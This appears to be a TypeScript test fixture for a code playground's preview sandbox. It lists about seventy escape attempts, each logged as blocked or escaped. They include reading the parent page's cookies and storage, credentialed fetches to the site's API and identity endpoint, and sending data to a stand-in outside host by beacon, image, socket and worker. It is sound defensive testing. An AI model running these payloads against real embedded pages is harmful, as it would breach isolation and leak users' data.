/**
 * Attacks by a hostile program in the playground's preview. Each is the body of an async function
 * that returns `true` if it succeeded. `elsewhere` is another host, `site` the origin of the page.
 * They run in one program, one after another, for a second each. The pauses and this second wait
 * for something that must not happen, so no event can end them.
 */
export const escapeAttempts: Readonly<Record<string, string>> = {
  'read the page around': 'return parent.document.title !== undefined;',
  'read the top page': 'return top.document.body !== null;',
  'read the address of the page around': 'return parent.location.href.length > 0;',
  'call a function of the page around': 'parent.focusEscape(); return true;',
  'navigate the page around': "parent.location.href = '/docs/overview'; return true;",
  'navigate the top page': "top.location.replace('/docs/overview'); return true;",
  'read the storage of the page around': 'return parent.localStorage.length >= 0;',
  'read cookies': 'return document.cookie !== undefined;',
  'write a cookie': "document.cookie = 'escaped=1'; return true;",
  'use local storage': "localStorage.setItem('escaped', '1'); return true;",
  'use session storage': "sessionStorage.setItem('escaped', '1'); return true;",
  'open a database':
    "return new Promise((done, fail) => { const open = indexedDB.open('escaped'); open.onsuccess = () => done(true); open.onerror = fail; });",
  'open a cache': "await caches.open('escaped'); return true;",
  'use private files': 'await navigator.storage.getDirectory(); return true;',
  'register a service worker': "await navigator.serviceWorker.register('/sw.js'); return true;",
  'start a shared worker': "new SharedWorker('/play/preview.js'); return true;",
  'fetch elsewhere from a worker':
    "return askWorker('data:text/javascript,' + encodeURIComponent(workerText(elsewhere + '/worker')));",
  'fetch elsewhere from a worker in memory':
    "return askWorker(URL.createObjectURL(new Blob([workerText(elsewhere + '/blob')])));",
  'fetch a page of the site from a worker':
    "return askWorker('data:text/javascript,' + encodeURIComponent(workerText(site + '/stats')));",
  'import elsewhere from a worker':
    "return askWorker('data:text/javascript,' + encodeURIComponent('import(' + JSON.stringify(elsewhere + '/import') + ').then(() => postMessage(true), () => postMessage(false))'));",
  'open a window': "return window.open('/') !== null;",
  'open a tab by a link': "link('/', '_blank').click(); return false;",
  'leave by a link to the top': "link('/docs/overview', '_top').click(); return false;",
  'save a file':
    "const a = link('data:text/plain,x', ''); a.download = 'x'; a.click(); return false;",
  'submit a form to the top': "form('/docs/overview', '_top').submit(); return false;",
  'submit a form elsewhere': "form(elsewhere + '/form', '_self').submit(); return false;",
  'fetch a page of the site': "await fetch(site + '/stats'); return true;",
  'fetch examples with the reader’s rights':
    "await fetch(site + '/api/playground/bundles/labels.json', { credentials: 'include' }); return true;",
  'talk to the identity provider':
    "await fetch(site + '/oidc/me', { credentials: 'include' }); return true;",
  'fetch elsewhere': "await fetch(elsewhere + '/fetch', { mode: 'no-cors' }); return true;",
  'ask by XMLHttpRequest':
    "return new Promise((done) => { const x = new XMLHttpRequest(); x.open('GET', elsewhere + '/xhr'); x.onload = () => done(true); x.onerror = () => done(false); x.send(); });",
  'send a beacon': "navigator.sendBeacon(elsewhere + '/beacon', 'x'); return false;",
  'open a web socket':
    "return new Promise((done) => { const s = new WebSocket(elsewhere.replace('http', 'ws')); s.onopen = () => done(true); s.onerror = () => done(false); });",
  'open an event source':
    "return new Promise((done) => { const s = new EventSource(elsewhere + '/events'); s.onopen = () => done(true); s.onerror = () => done(false); });",
  'connect to another browser': 'new RTCPeerConnection(); return true;',
  'connect to another browser from a frame':
    "const f = add('iframe', {}); new f.contentWindow.RTCPeerConnection(); return true;",
  'show a page of the site':
    "const f = add('iframe', { src: '/docs/overview' }); await loaded(f); return f.contentDocument !== null;",
  'run a script in a frame':
    "add('iframe', { srcdoc: '<script>parent.postMessage(\"escaped\", \"*\")</' + 'script>' }); return new Promise((done) => { addEventListener('message', ({ data }) => data === 'escaped' && done(true)); });",
  'embed an object': "add('object', { data: elsewhere + '/object' }); return false;",
  'load a picture': "add('img', { src: elsewhere + '/picture?secret' }); return false;",
  'load a style sheet':
    "add('link', { rel: 'stylesheet', href: elsewhere + '/style' }); return false;",
  'load a picture by a style':
    "document.body.style.background = 'url(' + elsewhere + '/background)'; return false;",
  'load a font':
    "const face = new FontFace('escaped', 'url(' + elsewhere + '/font)'); await face.load(); return true;",
  'prefetch a page':
    "add('link', { rel: 'prefetch', href: elsewhere + '/prefetch' }); return false;",
  'preload a script':
    "add('link', { rel: 'modulepreload', href: elsewhere + '/preload' }); return false;",
  'connect ahead':
    "add('link', { rel: 'preconnect', href: elsewhere }); add('link', { rel: 'dns-prefetch', href: elsewhere }); await pause(500); return false;",
  'run a script of elsewhere':
    "const s = add('script', { src: elsewhere + '/script' }); return loaded(s);",
  'import a module of elsewhere': "await import(elsewhere + '/module.js'); return true;",
  'import a module from text':
    "await import('data:text/javascript,export default 1'); return true;",
  'run an inline script':
    "const s = document.createElement('script'); s.textContent = 'window.escaped = true'; document.body.append(s); return window.escaped === true;",
  'run text by eval': "return (0, eval)('1') === 1;",
  'run text by Function': "return new Function('return true')();",
  'run a script address':
    "add('iframe', { src: 'javascript:parent.escaped2=true' }); await pause(300); return window.escaped2 === true;",
  'change where links lead':
    "const b = add('base', { href: elsewhere + '/' }); const is = document.baseURI === b.href; b.remove(); return is;",
  'talk to the page on a channel':
    "new BroadcastChannel('escape').postMessage('escaped'); return false;",
  'pretend to be another preview':
    "parent.postMessage('mezzanine-preview-ready', '*'); parent.postMessage({ source: 'mezzanine-example', state: 'error', message: 'escaped' }, '*'); return false;",
  'ask the reader by a dialog':
    "alert('escaped'); return prompt('escaped') !== null || confirm('escaped');",
  'print the page': 'print(); return false;',
  'write to the clipboard': "await navigator.clipboard.writeText('escaped'); return true;",
  'ask where the reader is':
    'return new Promise((done) => navigator.geolocation.getCurrentPosition(() => done(true), () => done(false)));',
  'look through the camera':
    'await navigator.mediaDevices.getUserMedia({ video: true }); return true;',
  'send notices': "return (await Notification.requestPermission()) === 'granted';",
  'take the whole screen': 'await document.body.requestFullscreen(); return true;',
  'take the pointer':
    'await document.body.requestPointerLock(); return document.pointerLockElement !== null;',
  'join the site’s domain': 'document.domain = location.hostname; return true;',
  'ask for the site’s storage':
    'await document.requestStorageAccess(); localStorage.length; return true;',
  'go back in the reader’s history': 'history.go(-1); await pause(500); return false;',
};

/** A program that runs all attacks and prints whether each was blocked. */
export function escapeProgram(elsewhere: string): string {
  const attempts = Object.entries(escapeAttempts)
    .map(([name, body]) => `  [${JSON.stringify(name)}, async () => { ${body} }],`)
    .join('\n');
  return `const elsewhere = ${JSON.stringify(elsewhere)};
const site = location.href.slice(0, location.href.indexOf('/play/'));
const pause = (ms: number) => new Promise((done) => setTimeout(done, ms));
function add<Name extends keyof HTMLElementTagNameMap>(tag: Name, fields: object) {
  const element = Object.assign(document.createElement(tag), fields);
  document.body.append(element);
  return element;
}
const link = (href: string, target: string) => add('a', { href, target });
const form = (action: string, target: string) => add('form', { action, target, method: 'post' });
const loaded = (element: HTMLElement): Promise<boolean> =>
  new Promise((done) => {
    element.onload = () => done(true);
    element.onerror = () => done(false);
  });
const workerText = (address: string) =>
  'fetch(' + JSON.stringify(address) + ", { mode: 'no-cors' }).then(() => postMessage(true), () => postMessage(false));";
const askWorker = (address: string): Promise<unknown> =>
  new Promise((done) => {
    const worker = new Worker(address);
    worker.onmessage = ({ data }) => done(data);
    worker.onerror = () => done(false);
  });
const attempts: [string, () => Promise<unknown>][] = [
${attempts}
];
for (const [name, attempt] of attempts) {
  const outcome = await Promise.race([
    attempt().then((got) => (got === true ? 'ESCAPED' : 'held'), () => 'held'),
    pause(1000).then(() => 'held'),
  ]);
  console.info(outcome + ': ' + name);
}
console.info('All attempts were made.');
`;
}
